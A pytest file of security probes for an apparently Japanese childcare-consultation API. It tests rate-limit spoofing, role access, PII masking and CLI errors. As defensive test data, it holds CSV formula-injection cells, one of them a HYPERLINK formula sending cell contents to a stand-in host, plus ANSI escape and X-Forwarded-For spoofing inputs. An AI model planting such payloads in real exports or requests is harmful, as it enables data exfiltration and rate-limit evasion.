"""The security probes of issue 14, one test each, over a real app on the 5-document test corpus.

Probes are numbered as in the issue's order: defects first (most serious first), then the probes that passed.
Each test fails on the behaviour the probe found and passes on the fixed one.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import math
import os
import random
import shutil
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import MODELS, TEST_CORPUS
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text
from test_api_postgres import postgres_url as postgres_server  # noqa: F401  (a throwaway PostgreSQL server)

from kodomo_ai.safety.pii import mask, mynumber_check_digit

QUESTION = "出生届はいつまでに出せばいいですか"
STAFF_ONLY_DOC = "t-suimin"  # audience [trainer, caseworker] in tests/data/corpus
NO_SOURCES_DOC = "shussei.txt"  # no front matter: its source is the file it was read from


@pytest.fixture(scope="module")
def security_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data dir whose index holds the test corpus (the API and the CLI both open it)."""
    from kodomo_ai.config import Settings
    from kodomo_ai.ingest.pipeline import ingest_paths
    from kodomo_ai.runtime import open_knowledge_base

    data = tmp_path_factory.mktemp("security-data")
    corpus = data / "corpus-copy"
    shutil.copytree(TEST_CORPUS, corpus)
    report = ingest_paths(open_knowledge_base(Settings(data_dir=data, models_path=MODELS)), [corpus])
    assert not report.errors, report.errors
    return data


def make_app(data: Path, **overrides: Any) -> Any:
    """An app over the security data dir, with its own settings (and so its own limits)."""
    from kodomo_ai.api import create_app
    from kodomo_ai.config import Settings
    from kodomo_ai.runtime import open_knowledge_base

    settings = Settings(data_dir=data, models_path=MODELS, **overrides)
    app = create_app(settings, knowledge_base=open_knowledge_base(settings))
    # Load the pipeline now: a slow first request would refill the buckets the limit tests count on.
    app.state.kodomo.consultant().retriever.search("保育料", k=1)
    return app


@pytest.fixture(scope="module")
def api(security_data: Path) -> Any:
    """A client over the app, with one key per role in `api.keys`."""
    app = make_app(security_data, parent_rate_per_minute=100000)
    storage = app.state.kodomo.storage
    client = TestClient(app, raise_server_exceptions=False)
    client.keys = {role: storage.create_key(role, f"probe {role}")[1]  # type: ignore[attr-defined]
                   for role in ("caseworker", "trainer", "evaluator", "admin")}  # fmt: skip
    return client


def auth(api: Any, role: str) -> dict[str, str]:
    """Headers with the key of `role`."""
    return {"Authorization": f"Bearer {api.keys[role]}"}


def _bucket_reset(app: Any) -> None:
    from kodomo_ai.api.storage import RateBucket

    with app.state.kodomo.storage.session() as session:
        session.query(RateBucket).delete()


# == Items 1-3 (index generations, document trust, per-file ingest) ====================================
# Probes 1-7 of the issue (ingest beside a running API, /readyz, planted instructions, hidden HTML, a
# replaced contact number, a bad file stopping an ingest, a failed upload replacing the live file) and the
# direct-injection minor probe belong to the helper building index generations and document trust; their
# tests go in this section.


# == Item 4: rate limits that hold =====================================================================
def test_probe_08_forwarded_for_does_not_pick_a_new_bucket(security_data: Path) -> None:
    app = make_app(security_data, parent_rate_per_minute=2)
    _bucket_reset(app)
    client = TestClient(app, client=("127.0.0.1", 40000))
    codes = [
        client.post(
            "/v1/search", json={"query": "児童手当"}, headers={"X-Forwarded-For": f"203.0.113.{i}"}
        ).status_code
        for i in range(3)
    ]
    assert codes == [200, 200, 429]


def test_probe_08_trusted_proxy_forwards_the_real_client(security_data: Path) -> None:
    app = make_app(security_data, parent_rate_per_minute=1, trusted_proxies="127.0.0.1")
    _bucket_reset(app)
    proxy = TestClient(app, client=("127.0.0.1", 40001))
    first = proxy.post("/v1/search", json={"query": "児童手当"}, headers={"X-Forwarded-For": "198.51.100.7"})
    again = proxy.post("/v1/search", json={"query": "児童手当"}, headers={"X-Forwarded-For": "198.51.100.7"})
    other = proxy.post("/v1/search", json={"query": "児童手当"}, headers={"X-Forwarded-For": "198.51.100.8"})
    # A client cannot prepend addresses: the proxy's own hop (the last one) is what counts.
    spoofed = proxy.post(
        "/v1/search", json={"query": "児童手当"}, headers={"X-Forwarded-For": "10.9.9.9, 198.51.100.7"}
    )
    assert (first.status_code, again.status_code, other.status_code, spoofed.status_code) == (
        200,
        429,
        200,
        429,
    )


def test_forwarded_client_and_buckets_as_a_unit() -> None:
    from kodomo_ai.api.auth import bucket_of, forwarded_client, trusted_networks

    trusted = trusted_networks("10.0.0.0/8, 127.0.0.1")
    assert forwarded_client("127.0.0.1", "1.2.3.4, 10.0.0.5", trusted) == "1.2.3.4"
    assert forwarded_client("203.0.113.9", "1.2.3.4", trusted) == "203.0.113.9"
    assert forwarded_client("127.0.0.1", "10.0.0.1", trusted) == "10.0.0.1"
    assert bucket_of("2001:db8::1") == bucket_of("2001:db8::ffff") != bucket_of("2001:db8:0:1::1")
    assert bucket_of("::ffff:192.0.2.1") == bucket_of("192.0.2.1")


def test_probe_09_each_browser_behind_the_ui_gets_its_own_bucket(security_data: Path) -> None:
    from kodomo_ai.api.auth import sign_browser_id

    app = make_app(security_data, parent_rate_per_minute=2)
    _bucket_reset(app)
    secret = app.state.kodomo.ui_secret
    ui = TestClient(app, client=("127.0.0.1", 40002))  # every browser reaches the API from the UI's address

    def ask(browser: str, signature: str | None = None) -> int:
        headers = {
            "X-Browser-Id": browser,
            "X-Browser-Signature": signature or sign_browser_id(secret, browser),
        }
        return ui.post("/v1/search", json={"query": "保育料"}, headers=headers).status_code

    alice, bob = "a" * 24, "b" * 24
    assert [ask(alice), ask(alice), ask(alice)] == [200, 200, 429]
    assert [ask(bob), ask(bob)] == [200, 200]
    # Invented ids without the UI's signature fall back to the address, which is shared and limited.
    forged = [ask(f"forged-{i:018d}", "0" * 64) for i in range(3)]
    assert forged == [200, 200, 429]


def test_ui_client_signs_the_browser_id(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    from kodomo_ai.api.auth import sign_browser_id

    monkeypatch.syspath_prepend(str(Path(__file__).resolve().parents[1] / "ui"))
    monkeypatch.setenv("KODOMO_UI_SECRET", "s" * 64)
    sys.modules.pop("client", None)
    import client as ui_client

    headers = ui_client.Client(base_url="http://127.0.0.1:9", browser_id="c" * 24).http.headers
    assert headers["X-Browser-Id"] == "c" * 24
    assert headers["X-Browser-Signature"] == sign_browser_id("s" * 64, "c" * 24)
    sys.modules.pop("client", None)


# storage.py is loaded on its own: a worker needs only it (and SQLAlchemy), not the whole app.
TAKE_TOKENS = """
import importlib.util, sys
spec = importlib.util.spec_from_file_location("storage", sys.argv[2])
module = importlib.util.module_from_spec(spec)
sys.modules["storage"] = module
spec.loader.exec_module(module)
storage = module.Storage(sys.argv[1])
print(sum(storage.take_token("ip:192.0.2.1", 10.0, 10.0 / 3600) for _ in range(8)))
"""


def test_probe_10_buckets_are_shared_by_worker_processes(tmp_path: Path) -> None:
    import kodomo_ai.api.storage as storage_module
    from kodomo_ai.api.storage import Storage

    url = f"sqlite:///{tmp_path / 'service.sqlite3'}"
    storage_file = str(storage_module.__file__)
    Storage(url).close()
    workers = [
        subprocess.Popen(
            [sys.executable, "-c", TAKE_TOKENS, url, storage_file], stdout=subprocess.PIPE, text=True
        )
        for _ in range(3)
    ]
    taken = [int(worker.communicate(timeout=120)[0]) for worker in workers]
    # 24 attempts from three processes against one bucket of 10: exactly 10 succeed.
    assert sum(taken) == 10, taken


def test_probe_10_buckets_are_shared_on_postgresql(postgres_server: str) -> None:  # noqa: F811
    from kodomo_ai.api.storage import Storage

    workers = [Storage(postgres_server), Storage(postgres_server)]  # two API workers, one database
    taken: list[bool] = []
    lock = threading.Lock()

    def take(storage: Any) -> None:
        for _ in range(8):
            ok = storage.take_token("ip:192.0.2.2", 6.0, 6.0 / 3600)
            with lock:
                taken.append(ok)

    threads = [threading.Thread(target=take, args=(workers[i % 2],)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for storage in workers:
        storage.close()
    assert taken.count(True) == 6 and len(taken) == 32


def test_probe_30_clients_get_only_200_or_429(security_data: Path) -> None:
    app = make_app(security_data, parent_rate_per_minute=5)
    _bucket_reset(app)
    client = TestClient(app, raise_server_exceptions=False, client=("192.0.2.30", 1))
    codes: list[int] = []
    lock = threading.Lock()

    def parent() -> None:
        for _ in range(2):
            code = client.post("/v1/search", json={"query": "児童手当 いつ", "k": 2}).status_code
            with lock:
                codes.append(code)

    threads = [threading.Thread(target=parent) for _ in range(30)]
    started = time.monotonic()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    refilled = math.ceil((time.monotonic() - started) * 5 / 60)
    assert set(codes) <= {200, 429} and 5 <= codes.count(200) <= 5 + refilled, sorted(codes)


def test_consultations_beyond_the_slots_get_a_clear_busy_429(security_data: Path) -> None:
    """A worker answers a few consultations at once; the rest wait briefly, then hear "busy", never a 5xx."""
    from kodomo_ai.api.admission import slot_count

    assert slot_count(3, "extractive") == 3
    assert slot_count(0, "openai") > slot_count(0, "extractive") == (os.cpu_count() or 1)
    app = make_app(security_data, max_concurrent_consults=1, consult_queue_s=0.2)
    client = TestClient(app, raise_server_exceptions=False)
    slots = app.state.kodomo.consult_slots
    slots.acquire()  # one consultation is being answered
    try:
        busy = [
            client.post("/v1/consult", json={"question": "保育料はいつ払う？"}),
            client.post("/v1/consult", json={"question": "保育料はいつ払う？", "stream": True}),
            client.post("/v1/chat/completions",
                        json={"model": "kodomo-ai", "messages": [{"role": "user", "content": "保育料は？"}]}),
        ]  # fmt: skip
    finally:
        slots.release()
    for response in busy:
        assert response.status_code == 429, response.text
        assert response.json()["error"]["code"] == "busy" and response.headers["Retry-After"] == "5"
    # Every slot comes back: after a plain answer, a stream read to its end and one closed early.
    assert client.post("/v1/consult", json={"question": "保育料はいつ払う？"}).status_code == 200
    with client.stream("POST", "/v1/consult", json={"question": "保育料は？", "stream": True}) as response:
        assert response.status_code == 200 and "final" in "".join(response.iter_text())
    assert client.post("/v1/consult", json={"question": "保育料はいつ払う？"}).status_code == 200


# == Item 5: authorisation ============================================================================
def test_probe_11_keyless_search_sees_parent_documents_only(api: Any) -> None:
    keyless = api.post("/v1/search", json={"query": "睡眠中の事故防止 寝かせ方", "k": 10}).json()
    assert keyless and STAFF_ONLY_DOC not in {h["doc_id"] for h in keyless}
    staff = api.post(
        "/v1/search", json={"query": "睡眠中の事故防止 寝かせ方", "k": 10}, headers=auth(api, "trainer")
    )
    assert STAFF_ONLY_DOC in {h["doc_id"] for h in staff.json()}
    asked = api.post("/v1/search", json={"query": "睡眠", "audience": "caseworker"})
    assert asked.status_code == 401


def _no_server_path(payload: str, data_dir: Path) -> None:
    assert str(data_dir) not in payload and str(data_dir.resolve()) not in payload
    assert "corpus-copy/" not in payload


def test_probe_12_no_server_paths_in_search_consult_or_chat(api: Any, security_data: Path) -> None:
    hits = api.post("/v1/search", json={"query": "出生届 14日以内 届出人", "k": 5}).json()
    unsourced = [h for h in hits if not h["source"].startswith("http")]
    assert NO_SOURCES_DOC in {h["source"] for h in unsourced}
    assert all("/" not in h["source"] and "\\" not in h["source"] for h in unsourced)
    _no_server_path(json.dumps(hits, ensure_ascii=False), security_data)
    answer = api.post("/v1/consult", json={"question": QUESTION})
    assert answer.status_code == 200
    _no_server_path(answer.text, security_data)
    chat = api.post(
        "/v1/chat/completions",
        json={"model": "kodomo-ai", "messages": [{"role": "user", "content": QUESTION}]},
    )
    _no_server_path(chat.text, security_data)


PUBLIC = {("POST", "/v1/consult"), ("POST", "/v1/search"), ("POST", "/v1/feedback"), ("POST", "/v1/chat/completions"),
          ("GET", "/v1/whoami"), ("GET", "/v1/models")}  # fmt: skip


def test_probe_every_route_by_every_role_never_crashes(api: Any) -> None:
    roles: list[str | None] = [None, "caseworker", "trainer", "evaluator", "admin"]
    seen = 0
    for route, operations in api.app.openapi()["paths"].items():
        path = route.replace("{", "").replace("}", "")  # a path parameter becomes its own (unknown) name
        for method in operations:
            if (method, route) == ("post", "/v1/evals/runs"):
                continue  # starts a run: covered by the evaluation probes below
            for role in roles:
                headers = auth(api, role) if role else {}
                response = api.request(method.upper(), path, headers=headers, json={})
                seen += 1
                # 503 is an answer (a channel not configured), not a crash; every error is a JSON error object.
                assert response.status_code < 500 or response.status_code == 503, (
                    method,
                    route,
                    role,
                    response.text[:200],
                )
                if response.status_code >= 400:
                    assert response.json()["error"]["code"], (method, route, role)
                if role is None and route.startswith(("/v1/keys", "/v1/audit", "/v1/documents", "/v1/evals")):
                    assert response.status_code == 401, (method, route)
    assert seen > 100


def test_probe_keys_are_hashed_and_compared_by_hash(api: Any) -> None:
    storage = api.app.state.kodomo.storage
    with storage.engine.connect() as conn:
        stored = " ".join(str(row) for row in conn.execute(text("SELECT * FROM api_keys")))
    assert all(secret not in stored for secret in api.keys.values())
    assert api.get("/v1/keys", headers={"X-API-Key": api.keys["admin"] + "x"}).status_code == 401


# == Item 6: personal data ============================================================================
FAMILY = ["佐藤", "鈴木", "高橋", "田中", "伊藤", "渡辺", "山本", "中村", "小林", "加藤"]
GIVEN = ["翔太", "結衣", "陽菜", "健太", "大輝", "悠真", "拓海", "優子", "花子", "和也"]
ROMAN_FAMILY = ["Sato", "Suzuki", "Takahashi", "Tanaka", "Ito", "Watanabe", "Yamamoto", "Nakamura"]
ROMAN_GIVEN = ["Shota", "Yui", "Kenta", "Daiki", "Yuma", "Takumi", "Yuko", "Hanako"]
TEMPLATES = ["{x}の保育料はいくらですか", "{x}が熱を出したら保育園は休むべき？", "うちの子は{x}です。児童手当の申請方法は",
             "連絡先は{x}です。出生届はいつまで", "{x} の認定区分を教えて"]  # fmt: skip


def _phone(rng: random.Random) -> tuple[str, str]:
    digits = rng.choice("789") + "0" + "".join(rng.choice("0123456789") for _ in range(8))
    a, b, c = "0" + digits[:2], digits[2:6], digits[6:]
    kanji = str.maketrans("0123456789", "〇一二三四五六七八九")
    forms = [f"{a}-{b}-{c}", f"{a}.{b}.{c}", f"{a}{b}{c}", f"{a}\u200b{b}\u200b{c}", f"{a} {b} {c}",
             f"{a}-{b}-{c}".translate(kanji), f"{a}{b}{c}".translate(str.maketrans("0123456789", "０１２３４５６７８９"))]  # fmt: skip
    return rng.choice(forms), a + b + c


def _mynumber(rng: random.Random) -> tuple[str, str]:
    first = "".join(rng.choice("0123456789") for _ in range(11))
    number = first + str(mynumber_check_digit(first))
    forms = [number, f"{number[:4]} {number[4:8]} {number[8:]}", f"{number[:4]}-{number[4:8]}-{number[8:]}",
             f"{number[:4]}\u200c{number[4:8]}\u200c{number[8:]}"]  # fmt: skip
    return rng.choice(forms), number


def _name(rng: random.Random) -> tuple[str, str]:
    family, given = rng.choice(FAMILY), rng.choice(GIVEN)
    kind = rng.randrange(5)
    if kind == 0:
        return family + given, family + given
    if kind == 1:
        return f"{family}{rng.choice([' ', '　'])}{given}", given
    if kind == 2:
        return given, given
    if kind == 3:
        return family + "さん", family
    name = f"{rng.choice(ROMAN_FAMILY)} {rng.choice(ROMAN_GIVEN)}"
    return name, name


def planted(seed: int) -> tuple[str, list[str]]:
    """A question with a random name, phone number or マイナンバー; returns it and the values that must not leak."""
    rng = random.Random(seed)
    typed, core = rng.choice([_phone, _mynumber, _name])(rng)
    return rng.choice(TEMPLATES).format(x=typed), [typed, core]


def _digits_only(value: str) -> str:
    return "".join(ch for ch in value if ch.isdigit())


@settings(max_examples=300, deadline=None)
@given(st.integers(min_value=0, max_value=2**32))
def test_property_planted_values_never_survive_masking(seed: int) -> None:
    question, secrets = planted(seed)
    out = mask(question).text
    for value in secrets:
        assert value not in out, (question, out)
    if _digits_only(secrets[1]):
        assert _digits_only(secrets[1]) not in _digits_only(out), (question, out)


def _database_text(storage: Any) -> str:
    with storage.engine.connect() as conn:
        tables = [r[0] for r in conn.execute(text("SELECT name FROM sqlite_master WHERE type='table'"))]
        return "\n".join(
            str(row) for table in tables for row in conn.execute(text(f'SELECT * FROM "{table}"'))
        )


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(seed=st.integers(min_value=0, max_value=2**32))
def test_probe_13_planted_values_never_reach_audit_database_or_logs(
    seed: int, api: Any, caplog: pytest.LogCaptureFixture
) -> None:
    question, secrets = planted(seed)
    caplog.clear()
    with caplog.at_level(logging.DEBUG):
        answer = api.post("/v1/consult", json={"question": question})
        assert answer.status_code == 200, answer.text
        api.post(
            "/v1/feedback",
            json={"answer_id": answer.json()["answer_id"], "rating": "down", "comment": question},
        )
        audit = api.get("/v1/audit", headers=auth(api, "admin"), params={"limit": 5}).text
    stored = _database_text(api.app.state.kodomo.storage)
    logs = "\n".join(r.getMessage() for r in caplog.records)
    for value in secrets:
        for where, body in (("audit", audit), ("database", stored), ("logs", logs)):
            assert value not in body, (where, question)


def test_probe_14_ask_json_echoes_the_question_masked(
    security_data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kodomo_ai.cli import main

    first = "98765432109"
    number = first + str(mynumber_check_digit(first))
    monkeypatch.setenv("KODOMO_MODELS_PATH", str(MODELS))
    result = CliRunner().invoke(
        main,
        ["ask", f"マイナンバー{number}、佐藤 翔太の児童手当は？", "--json", "--data-dir", str(security_data)],
    )
    assert result.exit_code == 0, result.output
    body = json.loads(result.stdout)
    assert number not in result.stdout and "翔太" not in result.stdout
    assert "〔マイナンバー1〕" in body["question"] and "〔氏名1〕" in body["question"]


# == Item 7: audit export =============================================================================
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1 保育料", "-2+3 児童手当", "@SUM(A1:A2)",
            "\t=1+1 出生届", "\r=1 保育", "＝1+1 手当"]  # fmt: skip


def test_probe_15_audit_export_neutralises_formula_cells(
    api: Any, security_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kodomo_ai.cli import main
    from kodomo_ai.config import get_settings

    for question in FORMULAS:
        api.post("/v1/consult", json={"question": question})
    monkeypatch.setenv("KODOMO_DATA_DIR", str(security_data))
    get_settings.cache_clear()
    out = tmp_path / "audit.csv"
    result = CliRunner().invoke(main, ["audit", "export", "--since", "2020-01-01", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    cells = [value for row in rows for key, value in row.items() if key not in ("id", "status", "latency_ms")]
    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'@SUM") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]


def test_probe_16_nul_and_ansi_escapes_are_not_stored(api: Any) -> None:
    question = "保育料\x00について\x1b[31m赤字\x1b[0m\x07教えて"
    assert api.post("/v1/consult", json={"question": question}).status_code == 200
    api.post(
        "/v1/keys", json={"role": "caseworker", "name": "tty\x1b]0;owned\x07"}, headers=auth(api, "admin")
    )
    stored = _database_text(api.app.state.kodomo.storage)
    assert "\x00" not in stored and "\x1b" not in stored and "\x07" not in stored
    assert "保育料について赤字教えて" in stored
    assert "\\x1b" not in api.get("/v1/audit", headers=auth(api, "admin")).text


def test_probe_database_file_is_private(api: Any, security_data: Path) -> None:
    for name in ("service.sqlite3", "ui-secret"):
        mode = stat.S_IMODE(os.stat(security_data / name).st_mode)
        assert mode == 0o600, (name, oct(mode))


# == Item 8: CLI errors ===============================================================================
def _one_line_error(result: Any, *words: str) -> None:
    assert result.exit_code == 2, (result.exit_code, result.output)
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in result.output, result.stderr
    for word in words:
        assert word in lines[0], lines[0]


def test_probe_17_ask_batch_reports_bad_lines_and_goes_on(
    security_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kodomo_ai.cli import main

    monkeypatch.setenv("KODOMO_MODELS_PATH", str(MODELS))
    batch = tmp_path / "questions.jsonl"
    batch.write_bytes(
        b'{"id": "q1", "question": "\xe5\x87\xba\xe7\x94\x9f\xe5\xb1\x8a\xe3\x81\xaf\xe3\x81\x84\xe3\x81\xa4\xe3\x81\xbe\xe3\x81\xa7"}\n'
        b'{"id": "q2", "question": \n'
        b'{"id": "q3", "question": 123}\n'
        b'{"id": "q4", "question": "\xff\xfe bad"}\n'
        b'{"id": "q5", "question": "0901234567\xe3\x81\xab\xe9\x9b\xbb\xe8\xa9\xb1", "audience": "parent"}\n'
    )
    result = CliRunner().invoke(
        main, ["ask", "--input", str(batch), "--json", "--data-dir", str(security_data)]
    )
    _one_line_error(result, "3")
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r.get("id") for r in rows] == ["q1", None, "q3", None, "q5"]
    assert "error" not in rows[0] and rows[0]["mode"] and "error" not in rows[4]
    assert rows[1]["line"] == 2 and "JSON" in rows[1]["error"]
    assert "question" in rows[2]["error"] and "int" in rows[2]["error"]
    assert rows[3]["line"] == 4 and "UTF-8" in rows[3]["error"]


@pytest.mark.parametrize(
    ("args", "env", "words"),
    [
        (["ask", "質問", "--engine", "nonsense"], {}, ["nonsense", "extractive"]),
        (["search", "保育料"], {"KODOMO_TOP_K": "abc"}, ["KODOMO_TOP_K", "abc"]),
        (["search", "保育料"], {"KODOMO_TOP_K": "0"}, ["KODOMO_TOP_K"]),
        (["search", "保育料", "-k", "-1"], {}, ["-k", "-1"]),
        (["ask", "保育料\udcff"], {}, ["QUESTION", "UTF-8"]),
        (["eval", "run", "evals/suites", "--engine", "nonsense"], {}, ["nonsense"]),
    ],
)
def test_probe_17_cli_user_errors_are_one_line_with_status_2(
    args: list[str],
    env: dict[str, str],
    words: list[str],
    security_data: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from kodomo_ai.cli import main
    from kodomo_ai.config import get_settings

    monkeypatch.setenv("KODOMO_DATA_DIR", str(security_data))
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    get_settings.cache_clear()
    try:
        result = CliRunner().invoke(main, args)
    finally:
        get_settings.cache_clear()
    _one_line_error(result, *words)


def test_search_batch_reports_bad_lines_and_goes_on(security_data: Path, tmp_path: Path) -> None:
    from kodomo_ai.cli import main

    batch = tmp_path / "q.jsonl"
    batch.write_bytes(
        b'{"id": "a", "question": "\xe4\xbf\x9d\xe8\x82\xb2\xe6\x96\x99"}\n[1, 2]\n{"id": "c", "question": "\xe6\x89\x8b\xe5\xbd\x93"}\n'
    )
    result = CliRunner().invoke(
        main, ["search", "--input", str(batch), "-k", "2", "--json", "--data-dir", str(security_data)]
    )
    _one_line_error(result)
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r.get("id") for r in rows] == ["a", None, "c"] and rows[1]["line"] == 2 and rows[2]["hits"]


# == Minor probes =====================================================================================
def test_probe_minor_oversized_chunked_body_gets_413(api: Any) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"question": "'
        for _ in range(200):
            yield "保育料".encode() * 200
        yield b'"}'

    response = api.post("/v1/consult", content=chunks(), headers={"Content-Type": "application/json"})
    assert response.status_code == 413 and response.json()["error"]["code"] == "too_large"


def test_probe_minor_invalid_utf8_gets_400_naming_it(api: Any) -> None:
    body = b'{"question": "\xff\xfe\xe4\xbf"}'
    response = api.post("/v1/consult", content=body, headers={"Content-Type": "application/json"})
    assert response.status_code == 400
    assert (
        response.json()["error"]["code"] == "invalid_encoding"
        and "UTF-8" in response.json()["error"]["message"]
    )


def test_probe_minor_concurrent_evaluation_runs_are_capped(api: Any) -> None:
    """A run held by another worker (another connection to the same service database) counts against the cap."""
    from kodomo_ai.api.storage import Storage

    other_worker = Storage(api.app.state.kodomo.storage.url)
    assert other_worker.claim_eval_slot("probe-other-worker", 1, 600)
    try:
        suites = api.get("/v1/evals/suites", headers=auth(api, "evaluator")).json()
        response = api.post(
            "/v1/evals/runs", json={"suites": [suites[0]["name"]]}, headers=auth(api, "evaluator")
        )
        assert response.status_code == 429, response.text
        error = response.json()["error"]
        assert error["code"] == "too_many_eval_runs" and "実行中 1 件" in error["message"]
    finally:
        other_worker.release_eval_slot("probe-other-worker")
        other_worker.close()
    assert api.app.state.kodomo.storage.held_eval_slots() == 0


def test_evaluation_slots_are_shared_by_workers_and_expire(tmp_path: Path) -> None:
    from kodomo_ai.api.storage import Storage

    url = f"sqlite:///{tmp_path / 'service.sqlite3'}"
    workers = [Storage(url) for _ in range(6)]
    try:
        barrier = threading.Barrier(len(workers))
        won: list[bool] = [False] * len(workers)

        def claim(i: int) -> None:
            barrier.wait()
            won[i] = workers[i].claim_eval_slot(f"run-{i}", 2, 600)

        threads = [threading.Thread(target=claim, args=(i,)) for i in range(len(workers))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert sum(won) == 2 and workers[0].held_eval_slots() == 2  # six workers at once, cap 2
        winner = won.index(True)
        workers[winner].release_eval_slot(f"run-{winner}")
        assert workers[5].claim_eval_slot("run-late", 2, 600) and not workers[4].claim_eval_slot("x", 2, 600)
        # A worker that died holding a slot stops renewing it: once its lease runs out, the slot is free.
        other = won.index(True, winner + 1)
        workers[other].renew_eval_slot(f"run-{other}", -1)
        assert workers[3].claim_eval_slot("run-after-crash", 2, 600)
    finally:
        for storage in workers:
            storage.close()


def test_probe_minor_evaluation_with_an_unconfigured_engine_fails_clearly(api: Any) -> None:
    suites = api.get("/v1/evals/suites", headers=auth(api, "evaluator")).json()
    response = api.post(
        "/v1/evals/runs",
        json={"suites": [suites[0]["name"]], "engine": "openai"},
        headers=auth(api, "evaluator"),
    )
    assert response.status_code == 422
    error = response.json()["error"]
    assert error["code"] == "engine_unavailable" and "KODOMO_OPENAI_BASE_URL" in error["message"]
